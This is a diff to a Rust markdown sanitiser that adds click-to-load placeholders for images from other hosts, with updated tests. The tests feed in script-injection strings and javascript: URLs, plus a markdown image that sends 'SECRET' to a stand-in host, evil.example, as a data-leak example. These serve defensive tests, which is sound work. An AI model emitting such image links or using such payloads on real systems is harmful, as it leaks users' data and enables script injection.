@@ -1,11 +1,14 @@
-//! The one safe markdown renderer (docs/behaviour.md §6): the only way untrusted text
-//! becomes HTML.
+//! The one safe markdown renderer (docs/behaviour.md §6): the only way
+//! untrusted text becomes HTML.
 //!
 //! pulldown-cmark parses (tables, strikethrough, task lists); raw HTML in the
 //! source is shown as text, never parsed; link and image URLs survive only as
 //! [`crate::screen::link`] allows them (`http`, `https`, `mailto` and relative URLs),
 //! external links open as it says (`rel="noopener noreferrer"`, a new tab);
+//! an image from another host is a placeholder until clicked (`images`);
 //! code blocks keep a `language-*` class.
+
+pub mod images;
 
 /// The inline `style` attributes the renderer writes (pulldown-cmark's table
 /// cell alignment); a page's CSP allows them by hash (`'unsafe-hashes'`).
@@ -16,6 +19,7 @@ pub const TABLE_ALIGNMENT_STYLES: [&str; 3] = [
 ];
 
 use crate::screen::link::{is_allowed_url, is_external_link, EXTERNAL_REL, EXTERNAL_TARGET};
+pub use images::RemoteImages;
 use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};
 use pulldown_cmark_escape::{escape_href, escape_html};
 
@@ -31,48 +35,97 @@ pub enum Breaks {
     Soft,
 }
 
-/// Renders untrusted markdown to HTML that is safe for `inner_html`.
-pub fn render(text: &str, breaks: Breaks) -> String {
+/// Renders untrusted markdown to HTML that is safe for `inner_html`, images
+/// from other hosts as `images` says.
+pub fn render(text: &str, breaks: Breaks, images: RemoteImages) -> String {
     let options =
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let mut links: Vec<bool> = Vec::new();
     let mut in_raw_html_block = false;
-    let events = Parser::new_ext(text, options).filter_map(|event| match event {
-        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
-        Event::Start(Tag::HtmlBlock) => {
-            in_raw_html_block = true;
-            Some(Event::Start(Tag::CodeBlock(CodeBlockKind::Indented)))
+    let mut remote = RemoteImage::default();
+    let events = Parser::new_ext(text, options).filter_map(|event| {
+        if remote.depth > 0 {
+            return remote.take(event, images);
         }
-        Event::End(TagEnd::HtmlBlock) => {
-            in_raw_html_block = false;
-            Some(Event::End(TagEnd::CodeBlock))
+        match event {
+            Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
+            Event::Start(Tag::HtmlBlock) => {
+                in_raw_html_block = true;
+                Some(Event::Start(Tag::CodeBlock(CodeBlockKind::Indented)))
+            }
+            Event::End(TagEnd::HtmlBlock) => {
+                in_raw_html_block = false;
+                Some(Event::End(TagEnd::CodeBlock))
+            }
+            Event::SoftBreak if breaks == Breaks::Hard && !in_raw_html_block => {
+                Some(Event::HardBreak)
+            }
+            Event::Start(Tag::Link {
+                dest_url, title, ..
+            }) => {
+                let allowed = is_allowed_url(&dest_url);
+                links.push(allowed);
+                allowed.then(|| Event::Html(open_link(&dest_url, &title).into()))
+            }
+            Event::End(TagEnd::Link) => links
+                .pop()
+                .unwrap_or(false)
+                .then(|| Event::Html("</a>".into())),
+            Event::Start(Tag::Image { ref dest_url, .. }) if !is_allowed_url(dest_url) => {
+                links.push(false);
+                None
+            }
+            Event::Start(Tag::Image { ref dest_url, .. }) if images::is_held(dest_url, images) => {
+                remote.start(dest_url);
+                None
+            }
+            Event::Start(Tag::Image { .. }) => {
+                links.push(true);
+                Some(event)
+            }
+            Event::End(TagEnd::Image) => links.pop().unwrap_or(false).then_some(event),
+            other => Some(other),
         }
-        Event::SoftBreak if breaks == Breaks::Hard && !in_raw_html_block => Some(Event::HardBreak),
-        Event::Start(Tag::Link {
-            dest_url, title, ..
-        }) => {
-            let allowed = is_allowed_url(&dest_url);
-            links.push(allowed);
-            allowed.then(|| Event::Html(open_link(&dest_url, &title).into()))
-        }
-        Event::End(TagEnd::Link) => links
-            .pop()
-            .unwrap_or(false)
-            .then(|| Event::Html("</a>".into())),
-        Event::Start(Tag::Image { ref dest_url, .. }) if !is_allowed_url(dest_url) => {
-            links.push(false);
-            None
-        }
-        Event::Start(Tag::Image { .. }) => {
-            links.push(true);
-            Some(event)
-        }
-        Event::End(TagEnd::Image) => links.pop().unwrap_or(false).then_some(event),
-        other => Some(other),
     });
     let mut html = String::with_capacity(text.len() + text.len() / 4);
     pulldown_cmark::html::push_html(&mut html, events);
     html
+}
+
+/// A remote image being read: its URL and alt text, until its end becomes
+/// its placeholder.
+#[derive(Default)]
+struct RemoteImage {
+    src: String,
+    alt: String,
+    /// Images open (an alt text may hold images too); 0: none.
+    depth: usize,
+}
+
+impl RemoteImage {
+    fn start(&mut self, src: &str) {
+        self.src = src.to_string();
+        self.alt.clear();
+        self.depth = 1;
+    }
+
+    /// Takes one event inside the image: its text is the alt text; its end
+    /// is the placeholder.
+    fn take<'a>(&mut self, event: Event<'a>, images: RemoteImages) -> Option<Event<'a>> {
+        match event {
+            Event::Text(text) | Event::Code(text) => self.alt.push_str(&text),
+            Event::Start(Tag::Image { .. }) => self.depth += 1,
+            Event::End(TagEnd::Image) => {
+                self.depth -= 1;
+                if self.depth == 0 {
+                    let html = images::placeholder(&self.src, &self.alt, images)?;
+                    return Some(Event::Html(html.into()));
+                }
+            }
+            _ => {}
+        }
+        None
+    }
 }
 
 /// The opening tag of an allowed link; external ones open safely in a new tab.
@@ -189,10 +242,18 @@ mod tests {
 
     #[test]
     fn raw_html_is_shown_as_text() {
-        let html = render("hi <script>alert(1)</script> <b>x</b>", Breaks::Hard);
+        let html = render(
+            "hi <script>alert(1)</script> <b>x</b>",
+            Breaks::Hard,
+            RemoteImages::OnClick,
+        );
         assert!(!html.contains("<script"), "{html}");
         assert!(html.contains("&lt;script&gt;"), "{html}");
-        let block = render("<div onclick=\"x()\">\n\n", Breaks::Hard);
+        let block = render(
+            "<div onclick=\"x()\">\n\n",
+            Breaks::Hard,
+            RemoteImages::OnClick,
+        );
         assert!(!block.contains("<div"), "{block}");
         assert!(block.contains("&lt;div onclick"), "{block}");
     }
@@ -208,56 +269,100 @@ mod tests {
             "vbscript:x",
             "javascript&#58;alert(1)",
         ] {
-            let html = render(&format!("[click]({dest})"), Breaks::Hard);
+            let html = render(
+                &format!("[click]({dest})"),
+                Breaks::Hard,
+                RemoteImages::OnClick,
+            );
             assert!(!html.contains("href"), "{dest} -> {html}");
             assert!(html.contains("click"), "{dest} -> {html}");
         }
-        let auto = render("<javascript:alert(1)>", Breaks::Hard);
+        let auto = render("<javascript:alert(1)>", Breaks::Hard, RemoteImages::OnClick);
         assert!(!auto.contains("href"), "{auto}");
     }
 
     #[test]
     fn allowed_links_keep_href_and_external_ones_get_noopener() {
-        let ext = render("[a](https://example.com/x?y=1&z=2)", Breaks::Hard);
+        let ext = render(
+            "[a](https://example.com/x?y=1&z=2)",
+            Breaks::Hard,
+            RemoteImages::OnClick,
+        );
         assert!(
             ext.contains(
                 r#"href="https://example.com/x?y=1&amp;z=2" rel="noopener noreferrer" target="_blank">"#
             ),
             "{ext}"
         );
-        let rel = render("[a](docs/readme.md)", Breaks::Hard);
+        let rel = render("[a](docs/readme.md)", Breaks::Hard, RemoteImages::OnClick);
         assert!(rel.contains(r#"<a href="docs/readme.md">"#), "{rel}");
-        let mail = render("[m](mailto:a@b.c)", Breaks::Hard);
+        let mail = render("[m](mailto:a@b.c)", Breaks::Hard, RemoteImages::OnClick);
         assert!(mail.contains("mailto:a@b.c"), "{mail}");
     }
 
     #[test]
     fn disallowed_images_render_their_alt_text_only() {
-        let html = render("![alt text](javascript:alert(1))", Breaks::Hard);
+        let html = render(
+            "![alt text](javascript:alert(1))",
+            Breaks::Hard,
+            RemoteImages::OnClick,
+        );
         assert!(!html.contains("<img"), "{html}");
         assert!(html.contains("alt text"), "{html}");
-        let ok = render("![pic](https://example.com/p.png)", Breaks::Hard);
+        let ok = render(
+            "![pic](https://example.com/p.png)",
+            Breaks::Hard,
+            RemoteImages::Load,
+        );
         assert!(
             ok.contains(r#"<img src="https://example.com/p.png""#),
             "{ok}"
         );
+        let own = render("![pic](charts/p.png)", Breaks::Hard, RemoteImages::OnClick);
+        assert!(
+            own.contains(r#"<img src="charts/p.png" alt="pic" />"#),
+            "{own}"
+        );
+    }
+
+    #[test]
+    fn an_image_from_another_host_is_a_placeholder_until_clicked() {
+        let text =
+            "found it ![the *key*](https://evil.example/?d=SECRET) and ![](//other.example/x.png)";
+        let html = render(text, Breaks::Hard, RemoteImages::OnClick);
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains("Load image from evil.example"), "{html}");
+        assert!(
+            html.contains("<span class=\"remote-image-alt\">the key</span>"),
+            "{html}"
+        );
+        assert!(html.contains("Load image from other.example"), "{html}");
+        assert!(html.starts_with("<p>found it <span"), "{html}");
     }
 
     #[test]
     fn a_single_newline_is_a_line_break_in_chat_text() {
-        assert!(render("one\ntwo", Breaks::Hard).contains("<br />"));
-        assert!(!render("one\ntwo", Breaks::Soft).contains("<br />"));
+        assert!(render("one\ntwo", Breaks::Hard, RemoteImages::OnClick).contains("<br />"));
+        assert!(!render("one\ntwo", Breaks::Soft, RemoteImages::OnClick).contains("<br />"));
     }
 
     #[test]
     fn code_blocks_carry_a_language_class() {
-        let html = render("```rust\nfn main() {}\n```", Breaks::Hard);
+        let html = render(
+            "```rust\nfn main() {}\n```",
+            Breaks::Hard,
+            RemoteImages::OnClick,
+        );
         assert!(html.contains(r#"<code class="language-rust">"#), "{html}");
     }
 
     #[test]
     fn tables_strikethrough_and_task_lists_render() {
-        let html = render("| a |\n|---|\n| b |\n\n~~x~~\n\n- [x] done", Breaks::Soft);
+        let html = render(
+            "| a |\n|---|\n| b |\n\n~~x~~\n\n- [x] done",
+            Breaks::Soft,
+            RemoteImages::OnClick,
+        );
         assert!(
             html.contains("<table>") && html.contains("<del>x</del>"),
             "{html}"
